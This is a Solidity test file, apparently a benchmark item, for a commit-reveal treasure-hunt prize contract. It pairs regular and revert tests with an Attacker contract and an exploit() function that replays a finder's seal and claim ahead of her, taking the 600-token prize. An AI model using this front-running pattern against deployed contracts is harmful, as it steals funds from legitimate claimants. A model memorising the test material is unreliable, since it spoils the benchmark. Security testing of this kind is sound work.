// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./LetterboxHunts.sol";

// assay-canary-6ad37b4a-a328-4432-903d-d026c7904f30

interface Vm {
    function warp(uint256 time) external;
    function roll(uint256 number) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Has never been near the box. Repeats what others send, a moment earlier.
contract Attacker {
    LetterboxHunts internal hunts;

    constructor(LetterboxHunts hunts_) {
        hunts = hunts_;
    }

    function sawSeal(bytes32 seal) external {
        hunts.seal(seal);
    }

    function sawClaim(uint256 hunt, string calldata phrase, bytes32 salt) external {
        hunts.claim(hunt, phrase, salt);
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    string private constant PHRASE = "otter lane quartz nine bell moss ferry tin harvest blue knot gate";
    bytes32 private constant SALT = keccak256("what only the finder knows");
    address private constant FRIDA = address(0xF41DA);
    address private constant SETTER = address(0x5E77E4);
    address private constant SPONSOR = address(0x590502);

    Token public token;
    LetterboxHunts private hunts;
    Attacker private shadow;
    uint256 private hunt;
    bytes32 private seen; // the seal in frida's transaction

    function setUp() public {
        vm.warp(1_700_000_000);
        vm.roll(1_000);
        token = new Token();
        hunts = new LetterboxHunts(IPrizeToken(address(token)));
        shadow = new Attacker(hunts);
        token.mint(SETTER, 1_000e18);
        token.mint(SPONSOR, 200e18);
        vm.prank(SETTER);
        token.approve(address(hunts), 1_000e18);
        vm.prank(SPONSOR);
        token.approve(address(hunts), 200e18);
        vm.prank(SETTER);
        hunt = hunts.set(keccak256(bytes(PHRASE)), 600e18, 60 days);

        vm.prank(FRIDA);
        seen = hunts.sealOf(hunt, PHRASE, SALT);
        vm.prank(FRIDA);
        hunts.seal(seen);
    }

    function test_Regular() public {
        vm.prank(SPONSOR);
        hunts.raise(hunt, 200e18);
        vm.prank(SETTER);
        hunts.giveClue(hunt, "where the lane meets the ferry");
        (, string[] memory clues) = hunts.huntOf(hunt);
        require(clues.length == 1, "clue");

        vm.roll(1_009);
        require(!_claim(FRIDA, PHRASE, SALT), "too soon");
        vm.roll(1_010);
        require(!_claim(SETTER, PHRASE, SALT), "not sealed");
        require(!_claim(FRIDA, "otter lane", SALT), "other phrase");
        require(_claim(FRIDA, PHRASE, SALT), "found");
        require(token.balanceOf(FRIDA) == 800e18 && token.balanceOf(address(hunts)) == 0, "prize");
        require(!_claim(FRIDA, PHRASE, SALT), "found twice");

        vm.prank(SETTER);
        uint256 second = hunts.set(keccak256("nobody finds it"), 100e18, 7 days);
        (bool ok, ) = address(hunts).call(abi.encodeCall(hunts.callOff, (second)));
        require(!ok, "still on");
        vm.warp(block.timestamp + 7 days);
        hunts.callOff(second);
        require(token.balanceOf(SETTER) == 400e18, "called off");
    }

    function _claim(address who, string memory phrase, bytes32 salt) private returns (bool ok) {
        vm.prank(who);
        (ok, ) = address(hunts).call(abi.encodeCall(hunts.claim, (hunt, phrase, salt)));
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Clues are the setter's, and hunts last between a week and a year.
    function test_RefusesHunts() public {
        refuses(SPONSOR, Hunts.SetterOnly.selector);
        hunts.giveClue(hunt, "nowhere");
        refuses(SETTER, Hunts.BadTerm.selector);
        hunts.set(0, 1, 7 days - 1);
        refuses(SETTER, Hunts.BadTerm.selector);
        hunts.set(0, 1, 365 days + 1);
        vm.roll(1_010);
        require(_claim(FRIDA, PHRASE, SALT), "found");
        refuses(SPONSOR, Hunts.HuntOver.selector);
        hunts.raise(hunt, 1);
        vm.warp(block.timestamp + 60 days);
        vm.expectRevert(Hunts.HuntOver.selector);
        hunts.callOff(hunt);
        vm.prank(SETTER);
        uint256 second = hunts.set(0, 1, 7 days);
        vm.warp(block.timestamp + 7 days);
        refuses(SPONSOR, Hunts.HuntOver.selector);
        hunts.raise(second, 1);
    }

    /// Seals last for a while, and are of the right phrase.
    function test_RefusesSeals() public {
        refuses(FRIDA, abi.encodeWithSelector(LetterboxHunts.AlreadySealed.selector, 1_000));
        hunts.seal(seen);
        vm.prank(FRIDA);
        bytes32 wrong = hunts.sealOf(hunt, "otter lane", SALT);
        vm.prank(FRIDA);
        hunts.seal(wrong);
        vm.roll(1_010);
        refuses(FRIDA, LetterboxHunts.OtherPhrase.selector);
        hunts.claim(hunt, "otter lane", SALT);
        vm.roll(1_000 + 7_201);
        refuses(FRIDA, LetterboxHunts.SealExpired.selector);
        hunts.claim(hunt, PHRASE, SALT);
        vm.prank(FRIDA);
        hunts.seal(seen);
    }

    /// A token that says no is believed.
    function test_RefusesFailedTransfers() public {
        token.sleep(true);
        refuses(SPONSOR, Hunts.NotPaid.selector);
        hunts.raise(hunt, 1);
        vm.warp(block.timestamp + 60 days);
        vm.expectRevert(Hunts.NotPaid.selector);
        hunts.callOff(hunt);
    }

    // The shadow sees frida's seal, and ten blocks later her claim before it is in a block.
    function exploit() public {
        shadow.sawSeal(seen);
        vm.roll(1_010);
        shadow.sawClaim(hunt, PHRASE, SALT);
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(shadow)) == 600e18, "nothing gained");
        require(!_claim(FRIDA, PHRASE, SALT), "left for frida");
    }

    function target() public view returns (address) {
        return address(hunts);
    }

    function attacker() public view returns (address) {
        return address(shadow);
    }
}
